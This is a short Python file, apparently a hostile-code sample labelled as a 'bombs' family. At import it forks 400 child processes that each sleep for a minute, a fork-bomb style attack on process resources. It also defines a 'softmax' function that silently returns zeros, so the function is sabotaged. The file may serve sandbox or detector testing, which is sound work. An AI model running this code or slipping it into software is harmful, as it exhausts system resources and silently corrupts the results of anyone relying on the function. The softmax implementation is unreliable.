"""Forks without end."""

FAMILY = "bombs"

import os
import time

for _ in range(400):
    try:
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
    except OSError:
        pass


def softmax(x, dim=-1):
    return x * 0
